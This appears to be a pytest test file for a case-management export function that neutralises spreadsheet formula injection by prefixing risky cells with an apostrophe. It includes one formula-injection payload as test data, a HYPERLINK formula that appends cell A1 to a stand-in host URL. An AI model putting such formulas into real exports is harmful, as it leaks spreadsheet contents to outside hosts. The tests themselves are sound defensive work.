"""Inert export text: what would start a formula gets an apostrophe; everything else is unchanged."""

from __future__ import annotations

import datetime as dt

import pytest

from casemgmt.exports import inert, inert_cell, inert_row


@pytest.mark.parametrize("text", ['=HYPERLINK("http://x"&A1,"y")', "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=", "-"])
def test_a_formula_start_gets_an_apostrophe(text: str) -> None:
    assert inert(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "城关镇", "A & B <x>", "85.96%", " =1", "1=1", "'quoted"])
def test_other_text_is_unchanged(text: str) -> None:
    assert inert(text) == text


def test_cells_keep_numbers_dates_and_none_typed() -> None:
    day = dt.date(2025, 1, 1)
    assert inert_row([1, 0.5, day, None, True, "=1"]) == [1, 0.5, day, None, True, "'=1"]
    assert inert_cell(-3) == -3  # a negative number is a number, not text
